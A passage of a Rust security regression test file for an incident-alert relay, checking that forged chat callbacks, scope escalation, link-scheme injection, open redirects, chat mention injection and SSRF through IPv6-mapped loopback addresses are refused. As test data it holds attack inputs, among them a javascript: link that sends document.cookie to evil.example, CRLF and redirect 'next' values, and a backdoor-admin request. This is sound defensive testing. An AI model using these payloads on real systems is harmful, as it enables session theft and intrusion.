//! Trust: nobody acts across a group boundary, nothing mints more rights than it has, no page is
//! lost and none is sent twice. One test per hole found by the attacker's and the careful
//! operator's review; each failed before its fix.

use std::time::Duration;

use incidentrelay::crypto::{Action, Target, button_signature};
use serde_json::{Value, json};

use crate::delivery::{deliveries, fire, hex_hmac, send_form, setup, urlencode, webhook};
use crate::fake::{Fake, Reply};
use crate::support::{TestApp, World, agent, send};

fn status(app: &TestApp, admin: &str, id: i64) -> String {
    app.get(&format!("/api/alerts/{id}"), admin).expect(200)["status"].as_str().unwrap_or("").to_string()
}

/// Creates a channel as `who` in `team`; its id.
fn channel(app: &TestApp, who: &str, team: i64, kind: &str, config: Value) -> i64 {
    let body = json!({"team_id": team, "name": format!("{kind}-{team}"), "channel_type": kind, "config": config});
    app.post("/api/channels", who, body).expect(201)["id"].as_i64().unwrap()
}

// --- 1. chat callbacks act only within their own team --------------------------------------------

#[test]
fn a_chat_button_acts_only_on_alerts_its_own_channel_was_paged_for() {
    let app = TestApp::start();
    let mm = Fake::start();
    mm.default(Reply::ok(r#"{"id": "post-1"}"#));
    let (s, ids) = setup(
        &app,
        &[
            json!({"channel_type": "mattermost", "config": {"mode": "bot_api", "api_url": mm.url, "bot_token": "t", "channel_id": "town"}}),
        ],
    );
    let w = &s.w;
    app.put(
        &format!("/api/admin/users/{}", w.responder.0),
        &w.admin,
        json!({"mattermost_user_id": "mm-rick", "slack_user_id": "U-RICK", "telegram_user_id": "4242"}),
    )
    .expect(200);
    let id = fire(&app, &s, "m1", "critical");
    app.deliver();
    let click = |ctx: Value, user: &str| {
        app.post_raw(
            "/api/integrations/mattermost/actions",
            None,
            &json!({"user_id": user, "context": ctx}).to_string(),
        )
    };
    let resolve = Target { alert_id: id, episode: 0, action: Action::Resolve };

    // Group B's editor makes a Mattermost channel with a callback secret of their choosing and
    // signs a click for group A's alert, in the name of group A's responder.
    let mm_bot = |secret: &str| json!({"mode": "bot_api", "api_url": mm.url, "bot_token": "t", "channel_id": "x", "callback_secret": secret});
    let evil = channel(&app, &w.outsider.1, w.other_team, "mattermost", mm_bot("chosen"));
    let forged = json!({"channel_id": evil, "alert_id": id, "episode": 0, "action": "r", "sig": button_signature(b"chosen", evil, resolve)});
    let r = click(forged, "mm-rick");
    assert!(r.text.contains("does not belong"), "refused: {}", r.text);
    assert_eq!(status(&app, &w.admin, id), "firing");

    // A channel of the alert's own team that was never paged for it cannot act either.
    let unpaged = channel(&app, &w.editor.1, w.team, "mattermost", mm_bot("side"));
    let side = json!({"channel_id": unpaged, "alert_id": id, "episode": 0, "action": "r", "sig": button_signature(b"side", unpaged, resolve)});
    assert!(click(side, "mm-rick").text.contains("does not belong"));
    assert_eq!(status(&app, &w.admin, id), "firing");

    // Slack and Telegram: even a button signed with the installation secret (as if it leaked)
    // for a channel of group B does not reach group A's alert.
    let secret = app.engine.senders.secret.clone();
    let slack = Fake::start();
    let slack_bot = json!({"mode": "bot_api", "bot_token": "xoxb", "channel_id": "C1", "signing_secret": "theirs", "api_url": slack.url});
    let evil_slack = channel(&app, &w.outsider.1, w.other_team, "slack", slack_bot);
    let value = incidentrelay::notify::slack::button_value(&secret, evil_slack, resolve);
    let payload = json!({"type": "block_actions", "user": {"id": "U-RICK"}, "actions": [{"value": value}], "response_url": format!("{}/respond", slack.url)});
    let body = format!("payload={}", urlencode(&payload.to_string()));
    let ts = app.now().secs().to_string();
    let sig = format!("v0={}", hex_hmac("theirs", &format!("v0:{ts}:{body}")));
    let r = send_form(
        &app,
        "/api/integrations/slack/actions",
        &body,
        &[("X-Slack-Request-Timestamp", &ts), ("X-Slack-Signature", &sig)],
    );
    assert_eq!(r.status, 200);
    let told = slack.wait(1, Duration::from_secs(5));
    assert!(told[0].body.contains("does not belong"), "{}", told[0].body);
    assert_eq!(status(&app, &w.admin, id), "firing");

    let tg = Fake::start();
    let evil_tg = channel(
        &app,
        &w.outsider.1,
        w.other_team,
        "telegram",
        json!({"bot_token": "1:A", "chat_id": 1, "api_url": tg.url}),
    );
    let data = incidentrelay::notify::telegram::callback_data(&secret, evil_tg, resolve);
    let update = json!({"update_id": 1, "callback_query": {"id": "q", "from": {"id": 4242}, "data": data}});
    let token = incidentrelay::notify::telegram::webhook_secret(&secret, evil_tg);
    let r = app.request(
        "POST",
        &format!("/api/integrations/telegram/{evil_tg}"),
        None,
        Some(&update),
        &[("X-Telegram-Bot-Api-Secret-Token", &token)],
    );
    assert!(r.body["text"].as_str().unwrap_or("").contains("does not belong"), "{}", r.text);
    assert_eq!(status(&app, &w.admin, id), "firing");

    // The channel that was paged acts, for a responder of the alert's group.
    let ctx = mm.requests()[0].json()["props"]["attachments"][0]["actions"][1]["integration"]["context"].clone();
    assert_eq!(ctx["channel_id"], ids[0]);
    let r = click(ctx, "mm-rick");
    assert_eq!(r.body["ephemeral_text"], format!("Alert #{id} resolved by rick."));
}

// --- 2. a token never mints more than it has --------------------------------------------------

#[test]
fn a_token_never_mints_more_than_it_has() {
    let app = TestApp::start();
    let w = World::new(&app);
    // An admin's token restricted to one group, allowed to manage its owner's tokens only.
    let parent = app
        .post(
            "/api/profile/tokens",
            &w.admin,
            json!({"name": "narrow", "scopes": ["profile:write", "profile:read"], "group_id": w.group, "days": 7}),
        )
        .expect(201);
    let narrow = parent["token"].as_str().unwrap().to_string();
    let mint = |body: Value| app.post("/api/profile/tokens", &narrow, body);
    let r = mint(json!({"name": "all", "scopes": ["*"]}));
    assert_eq!((r.status, r.fields()), (400, vec!["scopes[0]".to_string()]), "{}", r.text);
    let r = mint(json!({"name": "more", "scopes": ["resources:write"]}));
    assert_eq!((r.status, r.fields()), (400, vec!["scopes[0]".to_string()]), "{}", r.text);
    let r = mint(json!({"name": "elsewhere", "scopes": ["profile:read"], "group_id": w.other_group}));
    assert_eq!((r.status, r.fields()), (400, vec!["group_id".to_string()]), "{}", r.text);
    // Within its own rights it works, and stays inside the restriction and the lifetime.
    let child = mint(json!({"name": "same", "scopes": ["profile:write"], "days": 365})).expect(201);
    assert_eq!(child["group_id"], w.group, "the restriction is inherited");
    assert!(child["expires_at"].as_str() <= parent["expires_at"].as_str(), "never outlives its parent: {child}");
    let child = child["token"].as_str().unwrap().to_string();
    // No backdoor admin, whichever token tries.
    for t in [&narrow, &child] {
        let r = app.post(
            "/api/admin/users",
            t,
            json!({"username": "backdoor", "password": "correct horse battery", "is_admin": true}),
        );
        assert_eq!(r.status, 403, "{}", r.text);
    }
    // A session (the user's full rights) still creates admin tokens.
    app.post("/api/profile/tokens", &w.admin, json!({"name": "ci", "scopes": ["*"]})).expect(201);
}

// --- 3. scopes are checked on the path the router matches -------------------------------------

#[test]
fn scopes_follow_the_route_the_router_matched_not_the_spelling_of_the_path() {
    let app = TestApp::start();
    let (s, _) = setup(&app, &[]);
    let id = fire(&app, &s, "enc", "critical");
    let token = app
        .post("/api/profile/tokens", &s.w.admin, json!({"name": "ro", "scopes": ["resources:read"]}))
        .expect(201)["token"]
        .as_str()
        .unwrap()
        .to_string();
    for (method, path) in [
        ("GET", format!("/api/%61lerts/{id}")),
        ("POST", format!("/api/%61lerts/{id}/ack")),
        ("GET", format!("/api/alert%73/{id}")),
        ("GET", format!("/api/alerts/{id}")),
    ] {
        let r = app.request(method, &path, Some(&token), None, &[]);
        assert_eq!((r.status, r.body["error"].as_str()), (403, Some("missing_scopes")), "{method} {path}: {}", r.text);
    }
    assert_eq!(status(&app, &s.w.admin, id), "firing");
    // The resources the token does cover still answer, however spelled.
    assert_eq!(app.get("/api/te%61ms", &token).status, 200);
}

// --- 4. editors cannot enrol strangers -----------------------------------------------------

#[test]
fn editors_cannot_enrol_strangers_or_read_their_contact_details() {
    let app = TestApp::start();
    let w = World::new(&app);
    let (sam, _) = app.user(&w.admin, "sam");
    app.put(&format!("/api/admin/users/{sam}"), &w.admin, json!({"phone": "+15550100"})).expect(200);
    let add = |user: i64| {
        app.post(&format!("/api/groups/{}/users", w.group), &w.editor.1, json!({"user_id": user, "role": "viewer"}))
    };
    for stranger in [sam, w.outsider.0] {
        let r = add(stranger);
        assert_eq!((r.status, r.fields()), (400, vec!["user_id".to_string()]), "{}", r.text);
    }
    let names: Vec<String> = app
        .get("/api/users", &w.editor.1)
        .expect(200)
        .as_array()
        .unwrap()
        .iter()
        .map(|u| u["username"].as_str().unwrap().to_string())
        .collect();
    assert!(!names.iter().any(|n| n == "sam" || n == "olga"), "contacts of people outside my groups: {names:?}");
    // Someone who already shares a group with the editor may be added to another of theirs.
    let second =
        app.post("/api/groups", &w.admin, json!({"slug": "dba", "name": "DBA"})).expect(201)["id"].as_i64().unwrap();
    app.post(&format!("/api/groups/{second}/users"), &w.admin, json!({"user_id": w.editor.0, "role": "editor"}))
        .expect(201);
    app.post(&format!("/api/groups/{second}/users"), &w.editor.1, json!({"user_id": w.viewer.0, "role": "responder"}))
        .expect(201);
    // Admins enrol anyone.
    app.post(&format!("/api/groups/{}/users", w.group), &w.admin, json!({"user_id": sam, "role": "viewer"}))
        .expect(201);
}

// --- 5. links and keypresses belong to one episode ------------------------------------------

#[test]
fn old_links_and_keypresses_do_not_act_on_an_alert_that_fired_again() {
    let app = TestApp::start();
    let hook = Fake::start();
    let gw = Fake::start();
    gw.push(Reply::ok(r#"{"call_id": "call-1"}"#)).push(Reply::ok(r#"{"call_id": "call-2"}"#));
    let (s, ids) = setup(
        &app,
        &[
            webhook(&hook.url),
            json!({"channel_type": "voice", "config": {"provider": "http", "url": format!("{}/call", gw.url), "secret": "vs"}}),
        ],
    );
    let id = fire(&app, &s, "ep", "critical");
    app.deliver();
    let old = hook.requests()[0].json()["links"].clone();
    let path = |l: &Value| l.as_str().unwrap().trim_start_matches("https://oncall.example").to_string();
    app.post(&format!("/api/alerts/{id}/resolve"), &s.w.editor.1, json!({})).expect(200);
    app.deliver();
    assert_eq!(fire(&app, &s, "ep", "critical"), id, "reopened: the same alert, a new episode");
    app.deliver();
    assert_eq!(status(&app, &s.w.admin, id), "firing");

    for link in ["acknowledge", "resolve"] {
        let page = app.request("GET", &path(&old[link]), None, None, &[]);
        assert_eq!(page.status, 400, "{link}: {}", page.text);
        assert!(page.text.contains("fired again"), "a clear page: {}", page.text);
        assert_eq!(app.request("POST", &path(&old[link]), None, None, &[]).status, 400);
    }
    assert_eq!(status(&app, &s.w.admin, id), "firing");

    let press = |call: &str| {
        let body = json!({"call_id": call, "digits": "1"});
        let ts = app.now().secs();
        let sig = format!("sha256={}", hex_hmac("vs", &format!("{ts}.{body}")));
        let ts = ts.to_string();
        app.request(
            "POST",
            &format!("/api/integrations/voice/{}/callback", ids[1]),
            None,
            Some(&body),
            &[("X-IncidentRelay-Timestamp", &ts), ("X-IncidentRelay-Signature", &sig)],
        )
        .expect(200)
    };
    assert!(press("call-1")["result"].as_str().unwrap().contains("fired again"));
    assert_eq!(status(&app, &s.w.admin, id), "firing", "an old call's keypress does nothing");
    assert_eq!(press("call-2")["result"], format!("Alert #{id} acknowledged by eddie (phone)."));

    // This episode's link works.
    let new = hook.requests().iter().rev().find(|r| r.json()["event"] == "triggered").unwrap().json()["links"].clone();
    assert_ne!(new["resolve"], old["resolve"]);
    assert_eq!(app.request("POST", &path(&new["resolve"]), None, None, &[]).status, 200);
    assert_eq!(status(&app, &s.w.admin, id), "resolved");
}

// --- 6. login lockout cannot be triggered by strangers --------------------------------------

#[test]
fn a_stranger_cannot_lock_the_real_user_out() {
    let app = TestApp::start_with(|c| c.server.trusted_proxies = vec!["127.0.0.1/32".parse().unwrap()]);
    let w = World::new(&app);
    let login = |from: &str, password: &str| {
        app.request(
            "POST",
            "/api/auth/login",
            None,
            Some(&json!({"username": "rick", "password": password})),
            &[("X-Forwarded-For", from)],
        )
        .status
    };
    for _ in 0..5 {
        assert_eq!(login("203.0.113.9", "guess"), 401);
    }
    assert_eq!(login("203.0.113.9", "password-rick"), 429, "the guesser's address is locked out of the account");
    assert_eq!(login("198.51.100.7", "password-rick"), 200, "the real user elsewhere gets in");
    // Guessing spread over many addresses meets the slower brake on the account.
    for i in 0..50 {
        login(&format!("203.0.113.{}", 100 + i), "guess");
    }
    assert_eq!(login("198.51.100.8", "password-rick"), 429);
    let _ = w;
}

// --- 7. links are http(s) only -------------------------------------------------------------

#[test]
fn links_from_any_monitoring_system_are_http_or_plain_text() {
    let app = TestApp::start();
    let hook = Fake::start();
    let s = crate::intake::setup(&app);
    let channel = app
        .post("/api/channels", &s.w.editor.1, json!({"team_id": s.w.team, "name": "out", "channel_type": "webhook", "config": {"webhook_url": format!("{}/hook", hook.url)}}))
        .expect(201)["id"]
        .as_i64()
        .unwrap();
    for source in ["zabbix", "grafana"] {
        app.put(&format!("/api/routes/{}", s.routes[source]), &s.w.editor.1, json!({"channel_ids": [channel]}))
            .expect(200);
    }
    let evil = "javascript:fetch('//evil.example/'+document.cookie)";
    let mut zabbix: Value = serde_json::from_str(&crate::intake::fixture("zabbix/problem.json")).unwrap();
    zabbix["event_link"] = json!(evil);
    let z =
        app.post_raw("/api/integrations/zabbix", Some(&s.tokens["zabbix"]), &zabbix.to_string()).expect(200)[0]["id"]
            .as_i64()
            .unwrap();
    let mut grafana: Value = serde_json::from_str(&crate::intake::fixture("grafana/two_alerts_firing.json")).unwrap();
    grafana["alerts"][0]["panelURL"] = json!(evil);
    grafana["alerts"][0]["dashboardURL"] = json!("data:text/html,<script>alert(1)</script>");
    grafana["alerts"][0]["annotations"] = json!({"summary": "x", "runbook_url": "javascript:alert(2)"});
    grafana["alerts"][0]["generatorURL"] = json!("vbscript:msgbox");
    let g = app.post_raw("/api/integrations/grafana", Some(&s.tokens["grafana"]), &grafana.to_string()).expect(200)[0]
        ["id"]
        .as_i64()
        .unwrap();
    app.deliver();
    for id in [z, g] {
        let a = app.get(&format!("/api/alerts/{id}"), &s.w.admin).expect(200);
        assert!(a["event_link"].is_null(), "{a}");
        assert!(a["labels"]["event_link"].as_str().is_some_and(|l| !l.is_empty()), "kept as text: {a}");
    }
    let page = |id: i64| {
        app.request("GET", &format!("/alerts/{id}"), None, None, &[("Cookie", &format!("ir_session={}", s.w.admin))])
            .text
    };
    let (page, page_z) = (page(g), page(z));
    for html in [&page, &page_z] {
        for scheme in ["javascript:", "data:", "vbscript:"] {
            assert!(!html.contains(&format!("href=\"{scheme}")), "no {scheme} href on the alert page");
        }
    }
    assert!(hook.count() >= 2);
    for r in hook.requests() {
        assert!(r.json()["alert"]["event_link"].is_null(), "no link goes out: {}", r.body);
    }
}

// --- 8. secrets stay with their destination --------------------------------------------------

#[test]
fn changing_where_a_channel_sends_asks_for_its_secrets_again() {
    let app = TestApp::start();
    let w = World::new(&app);
    let create = |body: Value| app.post("/api/channels", &w.editor.1, body).expect(201);
    let tg = create(
        json!({"team_id": w.team, "name": "tg", "channel_type": "telegram", "config": {"bot_token": "123:SECRET", "chat_id": "-1"}}),
    );
    let r = app.put(
        &format!("/api/channels/{}", tg["id"]),
        &w.editor.1,
        json!({"config": {"api_url": "https://evil.example"}}),
    );
    assert_eq!((r.status, r.fields()), (400, vec!["config.bot_token".to_string()]), "{}", r.text);
    // Sending the form back as the API shows it (secrets masked) is the same thing.
    let mut masked = app.get(&format!("/api/channels/{}", tg["id"]), &w.editor.1).expect(200)["config"].clone();
    masked["api_url"] = json!("https://evil.example");
    let r = app.put(&format!("/api/channels/{}", tg["id"]), &w.editor.1, json!({"config": masked}));
    assert_eq!(r.fields(), vec!["config.bot_token".to_string()]);
    app.put(
        &format!("/api/channels/{}", tg["id"]),
        &w.editor.1,
        json!({"config": {"api_url": "https://tg.example", "bot_token": "9:NEW"}}),
    )
    .expect(200);

    let hook = create(json!({"team_id": w.team, "name": "h", "channel_type": "webhook",
                            "config": {"webhook_url": "https://hooks.example/a", "secret": "whsec_MfKQ9r8GKYqrTwjUPD8ILPZIo2LaLaSw", "headers": {"Authorization": "Bearer k"}}}));
    let r = app.put(
        &format!("/api/channels/{}", hook["id"]),
        &w.editor.1,
        json!({"config": {"webhook_url": "https://evil.example/b"}}),
    );
    assert_eq!(
        (r.status, r.sorted_fields()),
        (400, vec!["config.headers".to_string(), "config.secret".to_string()]),
        "{}",
        r.text
    );
    // Other changes keep the secrets, as before.
    app.put(
        &format!("/api/channels/{}", hook["id"]),
        &w.editor.1,
        json!({"name": "renamed", "config": {"headers": {"Authorization": "********"}}}),
    )
    .expect(200);
}

// --- 9. no secret in an error ----------------------------------------------------------------

#[test]
fn no_error_text_shows_a_secret() {
    let app = TestApp::start();
    let tg = Fake::start();
    let token = "123:AB C/é";
    let (s, ids) = setup(
        &app,
        &[json!({"channel_type": "telegram", "config": {"bot_token": token, "chat_id": -100, "api_url": tg.url}})],
    );
    let id = fire(&app, &s, "sec", "critical");
    app.deliver();
    let d = &deliveries(&app, &s, id)[0];
    let error = d["last_error"].as_str().unwrap_or("").to_string();
    assert!(!error.is_empty(), "the send failed: {d}");
    let test = app.post(&format!("/api/channels/{}/test", ids[0]), &s.w.editor.1, json!({}));
    let events = app.get(&format!("/api/alerts/{id}/events"), &s.w.viewer.1).expect(200).to_string();
    let logs = app.log.lines().join("\n");
    for (what, text) in [("last_error", &error), ("channel test", &test.text), ("timeline", &events), ("log", &logs)] {
        for form in ["AB C", "AB+C", "AB%20C", "AB%20C%2F", "123:AB"] {
            assert!(!text.contains(form), "{what} shows the bot token ({form}): {text}");
        }
    }
}

// --- 10. chat text cannot ping or phone home ---------------------------------------------------

#[test]
fn alert_text_cannot_ping_everyone_or_load_anything_in_chat() {
    let app = TestApp::start();
    let fake = Fake::start();
    fake.default(Reply::ok(r#"{"ok": true, "result": {"message_id": 1}, "id": "m"}"#));
    let (s, _) = setup(
        &app,
        &[
            json!({"channel_type": "mattermost", "config": {"webhook_url": format!("{}/mm", fake.url)}}),
            json!({"channel_type": "slack", "config": {"webhook_url": format!("{}/slack", fake.url)}}),
            json!({"channel_type": "discord", "config": {"webhook_url": format!("{}/discord", fake.url)}}),
            json!({"channel_type": "telegram", "config": {"bot_token": "1:A", "chat_id": 1, "api_url": format!("{}/tg", fake.url)}}),
        ],
    );
    let nasty = "@channel @all <!channel> <!here> ![x](http://evil.example/p.png) [login](https://evil.example/x) www.evil.example <b>hi</b>";
    let body = json!({"alerts": [{"status": "firing", "labels": {"alertname": "X", "team": "@here"},
                                  "annotations": {"summary": nasty, "description": nasty}, "fingerprint": "nasty"}]});
    app.post_raw("/api/integrations/alertmanager", Some(&s.token()), &body.to_string()).expect(200);
    app.deliver();
    let reqs = fake.requests();
    let find = |p: &str| reqs.iter().find(|r| r.path.starts_with(p)).unwrap_or_else(|| panic!("no {p}")).json();
    let mm = find("/mm");
    let mm_text = format!("{} {}", mm["text"].as_str().unwrap(), mm["attachments"][0]["text"].as_str().unwrap());
    // Live: the markdown as written, not behind a backslash escape.
    let live = |text: &str, pat: &str| text.match_indices(pat).any(|(i, _)| !text[..i].ends_with('\\'));
    for pat in ["@channel", "@all", "@here", "![", "[login](", "http://evil", "https://evil", "www.evil", "<!"] {
        assert!(!live(&mm_text, pat), "mattermost: {pat} is live in {mm_text}");
    }
    assert!(mm_text.contains("evil\\\\.example") || mm_text.contains("evil.example"), "the text is still there");
    let slack = find("/slack");
    let top = slack["text"].as_str().unwrap();
    assert!(!top.contains("<!channel>") && !top.contains("<!here>") && top.contains("&lt;!channel&gt;"), "{top}");
    assert_eq!(slack["unfurl_links"], false);
    let discord = find("/discord");
    let desc = discord["embeds"][0]["description"].as_str().unwrap();
    assert!(!desc.contains("[login](") && !desc.contains("![x]("), "{desc}");
    assert_eq!(discord["allowed_mentions"], json!({"parse": []}));
    let tg = find("/tg");
    let text = tg["text"].as_str().unwrap();
    assert!(!text.contains("<b>hi</b>") && text.contains("&lt;b&gt;hi&lt;/b&gt;"), "{text}");
    assert_eq!(tg["disable_web_page_preview"], true);
}

// --- 11. smaller items -----------------------------------------------------------------------

#[test]
fn logins_return_only_to_this_site_and_pages_carry_security_headers() {
    let app = TestApp::start();
    let admin_pw = app.admin_password.clone();
    let login = |next: &str| {
        let page = send(&agent(), "GET", &app.url("/login"), None, None, &[]);
        let cookie = page.header("set-cookie").unwrap().split(';').next().unwrap().to_string();
        let csrf = page.text.split("name=\"csrf\" value=\"").nth(1).unwrap().split('"').next().unwrap().to_string();
        let body = format!("csrf={}&username=admin&password={}", urlencode(&csrf), urlencode(&admin_pw));
        let mut req = ureq::http::Request::builder()
            .method("POST")
            .uri(app.url(&format!("/login?next={next}")))
            .header("Content-Type", "application/x-www-form-urlencoded")
            .header("Cookie", cookie);
        req = req.header("Accept", "text/html");
        let resp = app.agent.run(req.body(body).unwrap()).unwrap();
        let location = resp.headers().get("location").and_then(|v| v.to_str().ok()).unwrap_or("").to_string();
        let cookies: Vec<String> =
            resp.headers().get_all("set-cookie").iter().filter_map(|v| v.to_str().ok()).map(String::from).collect();
        (resp.status().as_u16(), location, cookies, page)
    };
    for next in
        ["/%09/evil.example", "/%5Cevil.example", "/%0d%0aSet-Cookie:%20x=1", "//evil.example", "/%2F/evil.example"]
    {
        let (status, location, _, _) = login(next);
        assert!(matches!(status, 303 | 302), "{next}: {status}");
        assert!(location == "/" || location == "/profile#password", "{next} → {location}");
    }
    let (_, location, cookies, page) = login("/alerts%3Fstatus%3Dfiring");
    assert!(location == "/alerts?status=firing" || location == "/profile#password", "{location}");
    // Every cookie: SameSite, and Secure behind https (public_base_url is https here).
    let login_cookie = page.header("set-cookie").unwrap().to_string();
    for c in cookies.iter().chain([&login_cookie]) {
        assert!(c.contains("SameSite=") && c.contains("Secure"), "{c}");
    }
    assert!(cookies.iter().any(|c| c.starts_with("ir_flash=")), "{cookies:?}");
    let csp = page.header("content-security-policy").unwrap_or_else(|| panic!("CSP on the login page"));
    assert!(csp.contains("default-src 'self'") && csp.contains("frame-ancestors 'none'"), "{csp}");
    assert_eq!(page.header("strict-transport-security"), Some("max-age=31536000"));
    let admin = app.admin();
    for path in ["/", "/alerts", "/docs"] {
        let r = app.request("GET", path, None, None, &[("Cookie", &format!("ir_session={admin}"))]);
        assert!(r.header("content-security-policy").is_some(), "{path}");
    }
    let plain = TestApp::start_with(|c| c.server.public_base_url = Some("http://127.0.0.1:8080".into()));
    let page = send(&agent(), "GET", &plain.url("/login"), None, None, &[]);
    assert!(page.header("strict-transport-security").is_none(), "no HSTS over plain http");
    let c = page.header("set-cookie").unwrap();
    assert!(c.contains("SameSite=") && !c.contains("Secure"), "{c}");
}

#[test]
fn the_database_its_wal_and_backups_are_private_to_the_service_user() {
    if crate::support::sqlite_only("the SQLite file and its backups") {
        return;
    }
    use std::os::unix::fs::PermissionsExt;
    let app = TestApp::start();
    let w = World::new(&app);
    let _ = w;
    let db = app.config.database.path.clone();
    let mode = |p: &std::path::Path| std::fs::metadata(p).unwrap().permissions().mode() & 0o777;
    let mut wal = db.as_os_str().to_owned();
    wal.push("-wal");
    for p in [db.clone(), std::path::PathBuf::from(wal)] {
        assert_eq!(mode(&p), 0o600, "{}", p.display());
    }
    let backup = app.dir.path().join("copy.db");
    let out = std::process::Command::new(env!("CARGO_BIN_EXE_incidentrelay"))
        .args(["backup", "--output", backup.to_str().unwrap()])
        .env_clear()
        .env("INCIDENTRELAY_DATABASE__PATH", &db)
        .output()
        .unwrap();
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    assert_eq!(mode(&backup), 0o600);
}

#[test]
fn ipv6_forms_of_internal_ipv4_addresses_are_refused() {
    let app = TestApp::start();
    let fake = Fake::start();
    let port = fake.url.rsplit(':').next().unwrap().to_string();
    let (s, _) = setup(
        &app,
        &[
            json!({"channel_type": "webhook", "config": {"webhook_url": format!("http://[::127.0.0.2]:{port}/a")}}),
            json!({"channel_type": "webhook", "config": {"webhook_url": format!("http://[64:ff9b::7f00:1]:{port}/b")}}),
            json!({"channel_type": "webhook", "config": {"webhook_url": format!("http://[::ffff:0:7f00:1]:{port}/c")}}),
        ],
    );
    let id = fire(&app, &s, "v6", "critical");
    app.deliver();
    for d in deliveries(&app, &s, id).iter().filter(|d| d["event_type"] == "triggered") {
        assert_eq!(d["status"], "dead", "{d}");
        let error = d["last_error"].as_str().unwrap();
        assert!(error.contains("internal address") && error.contains("127.0.0."), "{d}");
    }
}

// --- 12. a short outage does not kill a page ----------------------------------------------------

#[test]
fn a_short_outage_delays_a_page_and_a_lost_one_is_announced() {
    let app = TestApp::start_with(|c| c.delivery.retry_for_seconds = 3600);
    let flaky = Fake::start();
    let other = Fake::start();
    for _ in 0..8 {
        flaky.push(Reply::status(503).header("Retry-After", "1"));
    }
    let (s, ids) = setup(&app, &[webhook(&flaky.url), webhook(&other.url)]);
    let id = fire(&app, &s, "outage", "critical");
    // Eight seconds of 503 + Retry-After: 1 (the clock moves at least as far as the provider asks).
    let page = |app: &TestApp| {
        deliveries(app, &s, id)
            .into_iter()
            .find(|d| d["channel_id"] == ids[0] && d["event_type"] == "triggered")
            .unwrap()
    };
    for _ in 0..8 {
        app.deliver();
        let next = incidentrelay::domain::time::Ts::parse(page(&app)["next_attempt_at"].as_str().unwrap()).unwrap();
        app.advance(next.secs_since(app.now()).max(1));
    }
    app.deliver();
    let d = page(&app);
    assert_eq!((d["status"].as_str(), d["attempts"].as_i64()), (Some("sent"), Some(9)), "{d}");
    let ids_seen: std::collections::BTreeSet<String> =
        flaky.requests().iter().map(|r| r.header("webhook-id").unwrap().to_string()).collect();
    assert_eq!(ids_seen.len(), 1, "every retry is the same message");

    // A provider that stays down past the budget: the page is given up, shown, announced, counted.
    flaky.default(Reply::status(503));
    let lost = fire(&app, &s, "down", "critical");
    for _ in 0..40 {
        app.deliver();
        app.advance(900);
    }
    app.deliver();
    let all = deliveries(&app, &s, lost);
    let dead = all.iter().find(|d| d["channel_id"] == ids[0] && d["event_type"] == "triggered").unwrap();
    assert_eq!(dead["status"], "dead");
    assert!(dead["last_error"].as_str().unwrap().starts_with("gave up after"), "{dead}");
    let events = app.get(&format!("/api/alerts/{lost}/events"), &s.w.admin).expect(200);
    let failed =
        events.as_array().unwrap().iter().find(|e| e["event_type"] == "delivery_failed").expect("on the timeline");
    assert!(failed["message"].as_str().unwrap().contains("other channel of the team are told"), "{failed}");
    let notice =
        other.requests().into_iter().find(|r| r.json()["event"] == "undelivered").expect("a could-not-deliver notice");
    assert_eq!(notice.json()["alert"]["id"], lost);
    let metrics = app.request("GET", "/metrics", None, None, &[]).text;
    assert!(
        metrics.contains("incidentrelay_pages_undelivered_total{channel_type=\"webhook\",event=\"triggered\"} 1"),
        "{metrics}"
    );
}

// --- 13. a restart sends nothing twice --------------------------------------------------------

#[test]
fn sigterm_lets_sends_in_flight_finish_so_a_restart_sends_nothing_twice() {
    use crate::process::Proc;
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("ir.db");
    let fake = Fake::start();
    fake.default(Reply::ok("{}").delayed(Duration::from_millis(1500)));
    let mut p = Proc::start(&db, &["serve"], &[]);
    let admin = p.login(p.admin_password.clone().as_deref().unwrap());
    let g = p.post("/api/groups", &admin, json!({"slug": "g", "name": "G"}));
    let t = p.post("/api/teams", &admin, json!({"group_id": g["id"], "slug": "t", "name": "T"}));
    let ch = p.post("/api/channels", &admin, json!({"team_id": t["id"], "name": "h", "channel_type": "webhook", "config": {"webhook_url": format!("{}/hook", fake.url)}}));
    let route = p.post(
        "/api/routes",
        &admin,
        json!({"team_id": t["id"], "name": "r", "source": "webhook", "channel_ids": [ch["id"]]}),
    );
    let token = route["intake_token"].as_str().unwrap().to_string();
    let mut alerts = Vec::new();
    for n in 0..8 {
        let r = p.post(
            "/api/integrations/webhook",
            &token,
            json!({"title": format!("page {n}"), "fingerprint": format!("p{n}")}),
        );
        alerts.push(r[0]["id"].as_i64().unwrap());
    }
    fake.wait(1, Duration::from_secs(10));
    let pid = p.child.id().to_string();
    assert!(std::process::Command::new("kill").args(["-TERM", &pid]).status().unwrap().success());
    let exited = crate::tools::wait_for(Duration::from_secs(20), || p.child.try_wait().ok().flatten());
    assert!(exited.is_some(), "the server stops after SIGTERM");
    let q = Proc::start(&db, &["serve"], &[]);
    let admin = q.login(p.admin_password.as_deref().unwrap());
    let all_sent = crate::tools::wait_for(Duration::from_secs(60), || {
        alerts
            .iter()
            .all(|a| {
                let d = q.call("GET", &format!("/api/alerts/{a}/deliveries"), Some(&admin), None).body;
                d.as_array().is_some_and(|d| !d.is_empty() && d.iter().all(|x| x["status"] == "sent"))
            })
            .then_some(())
    });
    assert!(all_sent.is_some(), "every page is delivered after the restart");
    let ids: Vec<String> = fake.requests().iter().map(|r| r.header("webhook-id").unwrap().to_string()).collect();
    let unique: std::collections::BTreeSet<&String> = ids.iter().collect();
    assert_eq!((ids.len(), unique.len()), (8, 8), "8 pages, 8 sends: {ids:?}");
    p.kill();
}

// --- 14. webhook-id is globally unique ----------------------------------------------------------

#[test]
fn webhook_ids_are_unique_across_installations() {
    let mut seen = Vec::new();
    for _ in 0..2 {
        let app = TestApp::start();
        let fake = Fake::start();
        let (s, _) = setup(&app, &[webhook(&fake.url)]);
        fire(&app, &s, "same", "critical");
        app.deliver();
        let id = fake.requests()[0].header("webhook-id").unwrap().to_string();
        assert!(id.starts_with("msg_") && id.len() == 36 && id[4..].chars().all(|c| c.is_ascii_hexdigit()), "{id}");
        seen.push(id);
    }
    assert_ne!(seen[0], seen[1], "two installations never reuse an id: {seen:?}");
}

// --- 16. no silent accept-and-drop ---------------------------------------------------------------

#[test]
fn an_intake_request_that_would_store_nothing_is_refused() {
    let app = TestApp::start();
    let s = crate::intake::setup(&app);
    for (path, source) in [("/api/integrations/alertmanager", "alertmanager"), ("/api/integrations/grafana", "grafana")]
    {
        for body in ["{}", r#"{"alerts": []}"#, r#"{"title": "Disk full", "message": "generic body"}"#] {
